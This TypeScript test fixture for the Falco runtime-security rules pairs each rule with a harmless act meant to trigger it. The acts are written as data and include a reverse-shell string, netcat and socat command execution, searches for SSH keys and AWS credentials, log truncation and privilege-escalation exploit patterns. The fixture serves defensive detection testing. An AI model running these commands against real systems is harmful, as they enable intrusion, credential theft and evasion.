// For each rule of Falco's three files an act that it is about, done on the host and in a container,
// and the rules that tell of it there. All rules run, those too that their files switch off.

import type { Act } from './acts.js';

/** Where an act is done. `privileged` is a container that may do everything. */
export type PlaceName = 'host' | 'container' | 'privileged';

/** An act, and in each place where it is done the rules that fire, once for each time they do. */
export interface OfficialAct extends Partial<Record<PlaceName, readonly string[]>> {
  act: Act;
  /** Output fields that the alert must show, by the key of the act's report that says the same. */
  shows?: Readonly<Record<string, string>>;
}

/** A program that Docker itself starts, and the rules that fire. */
export interface OfficialStart {
  /** Options of `docker run`; not given: it is `docker exec` in the container that is there. */
  run?: readonly string[];
  /** Options of `docker exec`. */
  exec?: readonly string[];
  argv: readonly string[];
  fires: readonly string[];
  /** The same on the host. */
  onHost: OfficialAct;
}

const act = (program: string, ...args: string[]): Act => ({ program, args });
const open = (...args: string[]): Act => act('open-file.py', ...args);
const run = (...args: string[]): Act => act('run-program.py', ...args);
const call = (...args: string[]): Act => act('system-call.py', ...args);
/** A connection of a program of no known name. */
const connect = (address: string, port: string): Act =>
  act('connect.py', '--comm', 'agent', address, port);

const FILE = { 'fd.name': 'path' };
const NOBODY = '65534';
/** Documentation addresses (RFC 5737), which nobody has; the acts give them to themselves. */
const OUTSIDE = '203.0.113.7';
/** Addresses that `HOSTS` gives names to. */
const API_SERVER = '203.0.113.8';
const MINING_POOL = '203.0.113.9';

/** The hosts(5) file that the agent of the test resolves names with. */
export const HOSTS = `127.0.0.1 localhost
${API_SERVER} kubernetes.default.svc.cluster.local
${MINING_POOL} pool.minexmr.com
`;

/** The same rule on the host and in the container. */
const both = (act_: Act, rules: string[], shows?: Record<string, string>): OfficialAct =>
  shows === undefined
    ? { act: act_, host: rules, container: rules }
    : { act: act_, host: rules, container: rules, shows };
/** The same, in a container that needs rights for the act. */
const withRights = (act_: Act, rules: string[]): OfficialAct => ({
  act: act_,
  host: rules,
  privileged: rules,
});
/** A rule about containers alone. */
const inside = (act_: Act, rules: string[]): OfficialAct => ({
  act: act_,
  host: [],
  container: rules,
});
/** The same, in a container that needs rights for the act. */
const insideWithRights = (act_: Act, rules: string[]): OfficialAct => ({
  act: act_,
  host: [],
  privileged: rules,
});

/** The acts by the rule that they are for. */
export const OFFICIAL_ACTS: Readonly<Record<string, OfficialAct>> = {
  // falco_rules.yaml
  'Directory traversal monitored file read': both(
    open('--written', '/srv/www/../../etc/passwd', '/etc/passwd', 'rdonly'),
    ['Directory traversal monitored file read'],
    { ...FILE, 'fd.nameraw': 'written' },
  ),
  'Read sensitive file trusted after startup': both(
    open('--comm', 'nginx', '--after', '5.2', '/etc/shadow', 'rdonly'),
    ['Read sensitive file trusted after startup', 'Read sensitive file untrusted'],
    FILE,
  ),
  'Read sensitive file untrusted': both(
    open('/etc/shadow', 'rdonly'),
    ['Read sensitive file untrusted'],
    FILE,
  ),
  'Run shell untrusted': both(run('--parent-comm', 'mongod', 'sh', '--', '-c', 'true'), [
    'Run shell untrusted',
  ]),
  'System user interactive': both(run('--parent-comm', 'sshd', '--user', NOBODY, 'true'), [
    'System user interactive',
  ]),
  'Contact K8S API Server From Container': insideWithRights(connect(API_SERVER, '6443'), [
    'Contact K8S API Server From Container',
  ]),
  'Netcat Remote Code Execution in Container': {
    act: run('nc', '--', '-e', '/bin/true'),
    host: ['Launch Suspicious Network Tool on Host', 'Netcat/Socat Remote Code Execution on Host'],
    container: [
      'Launch Suspicious Network Tool in Container',
      'Netcat Remote Code Execution in Container',
    ],
  },
  'Search Private Keys or Passwords': both(
    run('find', '--', '/home', '-maxdepth', '1', '-name', 'id_rsa'),
    ['Search Private Keys or Passwords'],
  ),
  'Clear Log Activities': both(
    open('/var/log/auth.log', 'wronly|trunc'),
    ['Clear Log Activities'],
    {
      ...FILE,
    },
  ),
  'Remove Bulk Data from Disk': both(run('shred', '--', '--help'), ['Remove Bulk Data from Disk']),
  'Create Symlink Over Sensitive Files': both(
    act('link-file.py', 'symbolic', '/etc/shadow', '/srv/page'),
    ['Create Symlink Over Sensitive Files'],
    { 'evt.arg.target': 'target', 'evt.arg.linkpath': 'path' },
  ),
  'Create Hardlink Over Sensitive Files': both(
    act('link-file.py', 'hard', '/etc/shadow', '/srv/page'),
    ['Create Hardlink Over Sensitive Files'],
    { 'evt.arg.oldpath': 'target', 'evt.arg.newpath': 'path' },
  ),
  'Packet socket created in container': insideWithRights(act('open-socket.py', 'packet'), [
    'Packet socket created in container',
  ]),
  'Redirect STDOUT/STDIN to Network Connection in Container': insideWithRights(
    act('duplicate-socket.py', 'tcp', '0'),
    ['Redirect STDOUT/STDIN to Network Connection in Container'],
  ),
  'Linux Kernel Module Injection Detected': {
    act: call('finit_module', '-1', '0', '0'),
    host: [],
    container: [],
    privileged: ['Linux Kernel Module Injection Detected'],
  },
  'Debugfs Launched in Privileged Container': {
    act: run('debugfs'),
    host: [],
    container: [],
    privileged: ['Debugfs Launched in Privileged Container'],
  },
  'Detect release_agent File Container Escapes': {
    act: act('release-agent.py'),
    host: [],
    privileged: ['Detect release_agent File Container Escapes'],
    shows: FILE,
  },
  'PTRACE attached to process': both(act('trace.py', 'attach'), ['PTRACE attached to process']),
  'PTRACE anti-debug attempt': both(act('trace.py', 'traceme'), ['PTRACE anti-debug attempt']),
  'Find AWS Credentials': both(
    run('find', '--', '/home', '-maxdepth', '1', '-path', '*/.aws/credentials'),
    ['Find AWS Credentials'],
  ),
  'Execution from /dev/shm': both(
    run('--argv0', '/dev/shm/saker-act/true', '/dev/shm/saker-act/true'),
    ['Execution from /dev/shm'],
  ),
  'Drop and execute new binary in container': inside(run('/opt/saker-act/true'), [
    'Drop and execute new binary in container',
  ]),
  'Disallowed SSH Connection Non Standard Port': withRights(act('run-ssh.py', OUTSIDE, '443'), [
    'Disallowed SSH Connection Non Standard Port',
  ]),
  'Fileless execution via memfd_create': both(run('--memfd', 'payload'), [
    'Fileless execution via memfd_create',
  ]),

  // falco-incubating_rules.yaml
  'Modify Shell Configuration File': both(
    open('/home/somebody/.bashrc', 'wronly|append'),
    ['Modify Shell Configuration File'],
    FILE,
  ),
  'Schedule Cron Jobs': both(
    open('/etc/cron.d/job', 'wronly|append'),
    ['Schedule Cron Jobs', 'Write below etc'],
    FILE,
  ),
  'Read ssh information': both(
    open('/home/somebody/.ssh/id_ed25519', 'rdonly'),
    ['Read ssh information'],
    FILE,
  ),
  'DB program spawned process': both(run('--parent-comm', 'postgres', 'true'), [
    'DB program spawned process',
  ]),
  'Change thread namespace': withRights(act('namespace.py', 'enter'), ['Change thread namespace']),
  'Change namespace privileges via unshare': {
    act: act('namespace.py', 'make-user'),
    host: [],
    container: ['Change namespace privileges via unshare'],
    privileged: [],
  },
  'System procs network activity': withRights(
    act('connect.py', '--comm', 'sort', OUTSIDE, '8443'),
    ['System procs network activity'],
  ),
  'Program run with disallowed http proxy env': both(
    run('--environment', 'HTTP_PROXY=http://127.0.0.1:1', '/usr/bin/curl', '--', '--version'),
    ['Program run with disallowed http proxy env'],
  ),
  'Unexpected UDP Traffic': withRights(
    act('connect-datagram.py', '--comm', 'agent', OUTSIDE, '9999'),
    ['Unexpected UDP Traffic'],
  ),
  'Non sudo setuid': both(act('set-user.py', '--user', NOBODY, 'setuid', '0'), ['Non sudo setuid']),
  'User mgmt binaries': { act: run('useradd'), host: ['User mgmt binaries'], container: [] },
  'Create files below dev': both(
    open('--new', '/dev/payload', 'wronly|creat'),
    ['Create files below dev'],
    FILE,
  ),
  'Contact EC2 Instance Metadata Service From Container': insideWithRights(
    connect('169.254.169.254', '80'),
    [
      'Contact EC2 Instance Metadata Service From Container',
      'Contact cloud metadata service from container',
    ],
  ),
  'Contact cloud metadata service from container': insideWithRights(
    connect('169.254.169.254', '443'),
    [
      'Contact EC2 Instance Metadata Service From Container',
      'Contact cloud metadata service from container',
    ],
  ),
  'Launch Package Management Process in Container': inside(run('apk'), [
    'Launch Package Management Process in Container',
  ]),
  'Launch Suspicious Network Tool in Container': {
    act: run('tcpdump'),
    host: ['Launch Suspicious Network Tool on Host'],
    container: ['Launch Suspicious Network Tool in Container'],
  },
  'Launch Suspicious Network Tool on Host': {
    act: run('telnet', '--', '127.0.0.1', '1'),
    host: ['Launch Suspicious Network Tool on Host'],
    container: ['Launch Suspicious Network Tool in Container'],
  },
  'Delete or rename shell history': both(
    act('remove-file.py', '/root/.bash_history'),
    ['Delete or rename shell history'],
    { 'evt.arg.path': 'path' },
  ),
  'Set Setuid or Setgid bit': both(act('change-mode.py', '4644'), ['Set Setuid or Setgid bit'], {
    'evt.arg.filename': 'path',
  }),
  'Launch Remote File Copy Tools in Container': inside(run('rsync'), [
    'Launch Remote File Copy Tools in Container',
  ]),
  'Mount Launched in Privileged Container': {
    act: run('mount', '--', '-o', 'bind', '/nowhere', '/nowhere'),
    host: [],
    container: [],
    privileged: ['Mount Launched in Privileged Container'],
  },
  'Launch Ingress Remote File Copy Tools in Container': inside(
    run('wget', '--', '-q', '-O', '/dev/null', 'http://127.0.0.1:1/payload'),
    ['Launch Ingress Remote File Copy Tools in Container'],
  ),
  'Read environment variable from /proc files': inside(act('open-path.py', '/proc/self/environ'), [
    'Read environment variable from /proc files',
  ]),
  'Adding ssh keys to authorized_keys': both(
    open('/home/somebody/.ssh/authorized_keys', 'wronly|append'),
    ['Adding ssh keys to authorized_keys', 'Write below monitored dir'],
    FILE,
  ),
  'Potential Local Privilege Escalation via Environment Variables Misuse': both(
    run('--environment', 'GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A', 'true'),
    ['Potential Local Privilege Escalation via Environment Variables Misuse'],
  ),
  'Backdoored library loaded into SSHD (CVE-2024-3094)': both(
    open('--comm', 'sshd', '/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1', 'rdonly'),
    ['Backdoored library loaded into SSHD (CVE-2024-3094)'],
    FILE,
  ),
  'BPF Program Not Profiled': withRights(act('use-bpf.py', 'program'), [
    'BPF Program Not Profiled',
  ]),

  // falco-sandbox_rules.yaml
  'Unexpected inbound connection source': withRights(
    act('accept.py', '--comm', 'server', OUTSIDE, '8081'),
    ['Unexpected inbound connection source'],
  ),
  'Read Shell Configuration File': both(
    open('/home/somebody/.profile', 'rdonly'),
    ['Read Shell Configuration File'],
    FILE,
  ),
  'Update Package Repository': both(
    act('rename-file.py', '/tmp/new', '/etc/apt/sources.list.d/mirror.list'),
    ['Update Package Repository'],
    { 'evt.arg.newpath': 'path' },
  ),
  'Write below binary dir': both(
    open('--new', '/usr/bin/payload', 'wronly|creat|excl'),
    ['Write below binary dir'],
    FILE,
  ),
  'Write below monitored dir': both(
    open('--new', '/usr/local/bin/payload', 'wronly|creat|excl'),
    ['Write below monitored dir'],
    FILE,
  ),
  'Write below etc': both(open('/etc/hosts', 'rdwr'), ['Write below etc'], FILE),
  'Write below root': both(open('/root/notes', 'wronly'), ['Write below root'], FILE),
  'Write below rpm database': both(
    open('/var/lib/rpm/Packages', 'rdwr'),
    ['Write below rpm database'],
    FILE,
  ),
  'Modify binary dirs': both(act('rename-file.py', '/usr/bin/ls', '/tmp/ls'), [
    'Modify binary dirs',
  ]),
  'Mkdir binary dirs': both(act('make-folder.py', '/usr/bin/folder'), ['Mkdir binary dirs'], {
    'evt.arg.path': 'path',
  }),
  'Interpreted procs inbound network activity': withRights(act('accept.py', '10.1.2.3', '8081'), [
    'Interpreted procs inbound network activity',
  ]),
  'Interpreted procs outbound network activity': withRights(act('connect.py', OUTSIDE, '8443'), [
    'Interpreted procs outbound network activity',
  ]),
  'Unexpected K8s NodePort Connection': insideWithRights(connect(OUTSIDE, '30080'), [
    'Unexpected K8s NodePort Connection',
  ]),
  'Create Hidden Files or Directories': both(
    open('--new', '/srv/.hidden', 'wronly|creat'),
    ['Create Hidden Files or Directories'],
    FILE,
  ),
  'Detect outbound connections to common miner pool ports': withRights(
    connect(MINING_POOL, '3333'),
    ['Detect outbound connections to common miner pool ports'],
  ),
  'Detect crypto miners using the Stratum protocol': both(
    run('payload', '--', '-o', 'stratum+tcp://127.0.0.1:1'),
    ['Detect crypto miners using the Stratum protocol'],
  ),
  'Kubernetes Client Tool Launched in Container': inside(run('kubectl', 'get', 'secrets'), [
    'Kubernetes Client Tool Launched in Container',
  ]),
  'Container Drift Detected (chmod)': inside(act('change-mode.py', '0755'), [
    'Container Drift Detected (chmod)',
  ]),
  'Container Drift Detected (open+create)': inside(
    open('--new', '--mode', '755', '/srv/payload', 'wronly|creat'),
    ['Container Drift Detected (open+create)'],
  ),
  'Sudo Potential Privilege Escalation': withRights(
    run('--login', NOBODY, 'sudoedit', '--', '-s', '\\', 'AAAA'),
    ['Sudo Potential Privilege Escalation'],
  ),
  'Unprivileged Delegation of Page Faults Handling to a Userspace Process': both(
    call('--user', NOBODY, 'userfaultfd', '1'),
    ['Unprivileged Delegation of Page Faults Handling to a Userspace Process'],
  ),
  'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)': withRights(
    run('--login', NOBODY, 'pkexec'),
    ['Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)'],
  ),
  'Java Process Class File Download': withRights(act('receive-class.py'), [
    'Java Process Class File Download',
  ]),
  'Decoding Payload in Container': inside(run('base64', '--', '-d', '/dev/null'), [
    'Decoding Payload in Container',
  ]),
  'Basic Interactive Reconnaissance': both(act('run-in-terminal.py', 'id'), [
    'Basic Interactive Reconnaissance',
  ]),
  'Netcat/Socat Remote Code Execution on Host': {
    act: run('socat', '--', '-', 'EXEC:/bin/true'),
    host: ['Launch Suspicious Network Tool on Host', 'Netcat/Socat Remote Code Execution on Host'],
    container: ['Launch Suspicious Network Tool in Container'],
  },
  'Network Tool Executed During NPM Package Install': {
    act: run('--parent-comm', 'npm', 'dig'),
    host: ['Launch Suspicious Network Tool on Host'],
    container: [
      'Launch Suspicious Network Tool in Container',
      'Network Tool Executed During NPM Package Install',
    ],
  },
  'Known Cryptominer Process Executed': both(run('xmrig'), ['Known Cryptominer Process Executed']),
  'Web Server Spawned Shell': both(run('--parent-comm', 'gunicorn', 'sh', '--', '-c', 'true'), [
    'Web Server Spawned Shell',
  ]),
  'Web Server Spawned Suspicious Child Process': both(run('--parent-comm', 'apache2', 'whoami'), [
    'Web Server Spawned Suspicious Child Process',
  ]),
  'Reverse Shell from Web Server': both(
    run('--parent-comm', 'uwsgi', 'sh', '--', '-n', '-c', 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'),
    ['Reverse Shell from Web Server', 'Web Server Spawned Shell'],
  ),
  'Privileged Container Device Access': {
    act: act('open-device.py', '/dev/sda1'),
    host: [],
    privileged: ['Privileged Container Device Access'],
    shows: FILE,
  },
  'Container Access to Host Sensitive Paths': inside(open('/host/etc/hostname', 'rdonly'), [
    'Container Access to Host Sensitive Paths',
  ]),
};

/** Fires for each start: a mount that is not there is none of the texts that it must not be. */
const ANY_START = 'Launch Sensitive Mount Container';
const ROOT_START = 'Container Run as Root User';
const silent = (act_: Act): OfficialAct => ({ act: act_, host: [] });

/** What Docker starts, by the rule that it is for. */
export const OFFICIAL_STARTS: Readonly<Record<string, OfficialStart>> = {
  'Terminal shell in container': {
    exec: ['-t'],
    argv: ['sh', '-c', 'true'],
    fires: ['Terminal shell in container'],
    onHost: silent(act('run-in-terminal.py', 'sh', '--', '-c', 'true')),
  },
  'Exfiltrating Artifacts via Kubernetes Control Plane': {
    argv: ['tar', '-cf', '-', '/secret'],
    fires: ['Exfiltrating Artifacts via Kubernetes Control Plane'],
    onHost: silent(run('tar', '--', '-cf', '-', '/etc/hostname')),
  },
  'Launch Privileged Container': {
    run: ['--privileged', '--user', NOBODY],
    argv: ['true'],
    fires: [ANY_START, 'Launch Privileged Container'],
    onHost: silent(act('run-in-namespace.py')),
  },
  'Launch Excessively Capable Container': {
    run: ['--cap-add', 'SYS_PTRACE'],
    argv: ['true'],
    fires: [ROOT_START, 'Launch Excessively Capable Container', ANY_START],
    onHost: silent(act('run-in-namespace.py')),
  },
  'Launch Sensitive Mount Container': {
    run: ['--user', NOBODY, '-v', '/etc:/mnt:ro'],
    argv: ['true'],
    fires: [ANY_START],
    onHost: silent(act('run-in-namespace.py')),
  },
  'Container Run as Root User': {
    run: [],
    argv: ['true'],
    fires: [ROOT_START, ANY_START],
    onHost: silent(act('run-in-namespace.py')),
  },
};

/** Rules that no act fires, and why. */
export const OFFICIAL_LEFT_OUT: Readonly<Record<string, string>> = {
  'Launch Disallowed Container': 'asks for a container and for no container id at once',
  'Network Connection outside Local Subnet': 'asks for a namespace of an empty list',
  'Modify Container Entrypoint':
    'asks for the name /proc/self/exe; fd.name is the program that the name stands for',
};
